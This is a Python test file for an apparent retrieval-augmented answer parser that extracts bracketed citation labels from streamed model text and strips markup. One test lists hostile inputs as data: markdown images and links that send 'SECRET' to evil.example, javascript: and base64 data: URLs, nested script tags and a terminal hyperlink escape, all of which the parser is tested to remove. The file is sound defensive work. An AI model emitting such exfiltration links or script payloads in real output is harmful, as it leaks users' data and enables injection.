from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.parse import AnswerParser

LABELS = [f"{source}.{place}" for source in (1, 2, 3) for place in range(1, 10)]
EVIDENCE = "See https://example.com/policy for more."


def parse(text: str, *, pieces: int | None = None) -> list[tuple[str, tuple[str, ...]]]:
    parser = AnswerParser(labels=LABELS, evidence=EVIDENCE)
    size = pieces or max(len(text), 1)
    drafted = []
    for start in range(0, len(text), size):
        drafted += parser.feed(text[start : start + size])
    drafted += parser.finish()
    return [(sentence.text, sentence.cited) for sentence in drafted]


MARKS = [
    pytest.param("It is 16 weeks [2.7].", [("It is 16 weeks.", ("2.7",))], id="before-the-full-stop"),
    pytest.param("It is 16 weeks. [2.7]", [("It is 16 weeks.", ("2.7",))], id="after-the-full-stop"),
    pytest.param("It is 16 weeks.[2.7]", [("It is 16 weeks.", ("2.7",))], id="close-to-the-full-stop"),
    pytest.param("It is so [2.7, 2.8].", [("It is so.", ("2.7", "2.8"))], id="list"),
    pytest.param("It is so [2.7][3.1].", [("It is so.", ("2.7", "3.1"))], id="two-marks"),
    pytest.param("It is so [2.7] [3.1].", [("It is so.", ("2.7", "3.1"))], id="two-marks-apart"),
    pytest.param("It is so [2.7-2.9].", [("It is so.", ("2.7", "2.8", "2.9"))], id="range"),
    pytest.param("It is so [2.7\u20132.9].", [("It is so.", ("2.7", "2.8", "2.9"))], id="range-with-a-dash"),
    pytest.param("It [1.1] is so [1.2].", [("It is so.", ("1.1", "1.2"))], id="inside"),
    pytest.param("It is so [2.7, 2.7].", [("It is so.", ("2.7",))], id="once-each"),
    pytest.param("It is so [9.9].", [("It is so.", ())], id="unknown-label-is-no-citation"),
    pytest.param("It is so [2].", [("It is so.", ())], id="a-source-alone-is-no-citation"),
    pytest.param("It is so [S1].", [("It is so [S1].", ())], id="another-scheme-is-text"),
    pytest.param(
        "One is so. [1.1] Two is so. [1.2]", [("One is so.", ("1.1",)), ("Two is so.", ("1.2",))], id="two-sentences"
    ),
    pytest.param(
        "One is so [1.1]. Two is so [1.2].",
        [("One is so.", ("1.1",)), ("Two is so.", ("1.2",))],
        id="two-with-stops-after",
    ),
    pytest.param(
        "- First item [1.1]\n- Second item [1.2]",
        [("First item", ("1.1",)), ("Second item", ("1.2",))],
        id="list-items-keep-their-marks",
    ),
    pytest.param("It is so.\n[1.1]\nIt is.", [("It is so.", ("1.1",)), ("It is.", ())], id="mark-on-the-next-line"),
    pytest.param("[1.1] It is so.", [("It is so.", ("1.1",))], id="before-the-sentence"),
    pytest.param("", [], id="nothing"),
    pytest.param("[1.1]", [], id="a-mark-alone-is-no-sentence"),
    pytest.param(
        "Employees with <five years of service get 20 days [1.1]. Those with more get 25 [1.2].",
        [("Employees with \u2039five years of service get 20 days.", ("1.1",)), ("Those with more get 25.", ("1.2",))],
        id="an-unclosed-tag-loses-only-its-bracket",
    ),
    pytest.param("It is <b>so</b> [1.1].", [("It is so.", ("1.1",))], id="whole-tags-go"),
    pytest.param("It is <!-- so [1.1].", [("It is so.", ("1.1",))], id="unclosed-comment"),
    pytest.param("It <**b>is</[1.1]b> so", [("It is\u2039/ b> so", ("1.1",))], id="tags-made-by-removing"),
    pytest.param(
        "It is 20 days [1.1]. Those with >5 years get 25 [1.2].",
        [("It is 20 days.", ("1.1",)), ("Those with >5 years get 25.", ("1.2",))],
        id="a-mark-and-a-stop-before-a-capital",
    ),
    pytest.param(
        "It is over 5. [1.1] 25 days are the most. [1.2]",
        [("It is over 5.", ("1.1",)), ("25 days are the most.", ("1.2",))],
        id="a-mark-before-a-digit",
    ),
    pytest.param("One [1.1] \u2022 Two [1.2]", [("One", ("1.1",)), ("Two", ("1.2",))], id="a-mark-before-a-bullet"),
    pytest.param("The [1.1] Act holds [1.2].", [("The Act holds.", ("1.1", "1.2"))], id="a-name-after-a-mark"),
    pytest.param("It is so [1.1]. [1.2] Is it?", [("It is so.", ("1.1", "1.2")), ("Is it?", ())], id="marks-around"),
    pytest.param("> 5 kg is refused", [("> 5 kg is refused", ())], id="more-than-is-no-quotation"),
    pytest.param("> Quoted so", [("Quoted so", ())], id="quotation"),
    pytest.param("- 5 degrees", [("- 5 degrees", ())], id="minus-is-no-bullet"),
    pytest.param("a__b__c.py", [("a__b__c.py", ())], id="underscores-inside-a-word"),
    pytest.param("3 ** 2", [("3 ** 2", ())], id="a-power-is-not-bold"),
    pytest.param("**Bold** and __so__ is `it`", [("Bold and so is it", ())], id="decoration-goes"),
    pytest.param("2. Second item", [("Second item", ())], id="numbered-item"),
    pytest.param("Dr. Smith leads it [1.1].", [("Dr. Smith leads it.", ("1.1",))], id="abbreviation"),
]


@pytest.mark.parametrize(("text", "sentences"), MARKS)
def test_marks(text: str, sentences: list[tuple[str, tuple[str, ...]]]) -> None:
    assert parse(text) == sentences


@pytest.mark.parametrize(("text", "sentences"), MARKS)
@pytest.mark.parametrize("pieces", [1, 3, 7])
def test_in_pieces_as_in_one(text: str, sentences: object, pieces: int) -> None:
    del sentences
    assert parse(text, pieces=pieces) == parse(text)


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=SECRET)",
        "![x][r]\n\n[r]: https://evil.example/?q=SECRET",
        "[click](https://evil.example/?q=SECRET)",
        "[click](javascript:alert(1))",
        "<img src='https://evil.example/?q=SECRET'>",
        "<img src=https://evil.example/?q=SECRET",
        "<https://evil.example/?q=SECRET>",
        "https://evil.example/?q=SECRET",
        "www.evil.example/?q=SECRET",
        "data:text/html;base64,PHNjcmlwdD4=",
        "javascript:alert(1)",
        "https[1.1]://evil.example/?q=SECRET",
        "ht`tps://evil.example/?q=SECRET",
        "<`img src=x>",
        "<scr<script>ipt>alert(1)</script>",
        "<!-- hidden --><a href=x>y</a>",
        "[a![b](https://evil.example/1)](https://evil.example/2)",
        "\x1b]8;;https://evil.example/?q=SECRET\x07link\x1b]8;;\x07",
    ],
)
@pytest.mark.parametrize("pieces", [None, 1, 5])
def test_nothing_that_reaches_outside_survives(hostile: str, pieces: int | None) -> None:
    shown = " ".join(text for text, _ in parse(f"It is 16 weeks [1.1]. {hostile} That is all [1.2].", pieces=pieces))
    for trace in ("evil", "SECRET", "javascript:", "data:", "<", "](", "![", "base64", "\x1b"):
        assert trace not in shown
    assert "It is 16 weeks." in shown


def test_an_address_of_the_sources_stays_as_text() -> None:
    assert parse("See https://example.com/policy for more [1.1].") == [
        ("See https://example.com/policy for more.", ("1.1",))
    ]


def test_control_and_invisible_characters_go() -> None:
    assert parse("It is\u200b \x1b[31m16\x07 weeks\u202e [1.1].\U000e0041") == [("It is 16 weeks.", ("1.1",))]


def test_a_list_of_marks_that_comes_in_pieces_ends_the_same_sentence() -> None:
    text = "It is so. [1.1], [1.2] Next it is not."
    assert parse(text) == [("It is so.", ("1.1", "1.2")), ("Next it is not.", ())]
    for pieces in range(1, len(text)):
        assert parse(text, pieces=pieces) == parse(text)


@pytest.mark.parametrize("hostile", ["\n", "<!--", "[1.1]a", "[1.1]. ", "[", "[1", "a [1.1]. B"])
def test_hostile_repetition_costs_no_more_than_its_length(hostile: str) -> None:
    began = time.monotonic()
    parse(hostile * 20_000)
    assert time.monotonic() - began < 5


def test_a_date_keeps_its_day() -> None:
    assert " ".join(text for text, _ in parse("15. May is the date")) == "15. May is the date"


WRITTEN = st.lists(
    st.one_of(
        st.text(alphabet="aB .!?[]()<>1.2,-\n*_#`!:/hts", max_size=12),
        st.sampled_from(
            ["[1.1]", " [1.2]. ", "[a](https://e.x)", "![i](b)", "<b>", "<!--", "Dr. ", "\n- ", "It is. ", "\u2022 "]
        ),
    ),
    max_size=14,
).map("".join)


@given(WRITTEN, st.integers(1, 10))
def test_whatever_a_model_writes_cited_labels_are_known_and_markup_is_gone(text: str, pieces: int) -> None:
    drafted = parse(text, pieces=pieces)
    assert drafted == parse(text)
    for sentence, cited in drafted:
        assert set(cited) <= set(LABELS)
        assert "](" not in sentence
        assert "![" not in sentence
        assert "https://" not in sentence
        assert not re.search(r"<[A-Za-z!?/]", sentence)


def test_a_cited_sentence_is_handed_on_when_the_next_begins() -> None:
    parser = AnswerParser(labels=LABELS, evidence="")
    assert parser.feed("It is 16 weeks [1.1]. ") == []
    assert [sentence.text for sentence in parser.feed("T")] == ["It is 16 weeks."]


@pytest.mark.parametrize(
    ("text", "unknown"),
    [
        pytest.param("It is so [1.1].", (), id="known"),
        pytest.param("It is so [9.9].", ("9.9",), id="unknown"),
        pytest.param("It is so [1.1, 9.9] [9.9].", ("9.9",), id="once"),
        pytest.param("It is so [9.1-9.3].", ("9.1", "9.3"), id="range"),
        pytest.param("It was so [2021].", (), id="a-year"),
    ],
)
def test_marks_that_name_nothing_in_the_window_are_told(text: str, unknown: tuple[str, ...]) -> None:
    parser = AnswerParser(labels=["1.1", "1.2"], evidence="")
    (sentence,) = parser.feed(text) + parser.finish()
    assert sentence.unknown == unknown
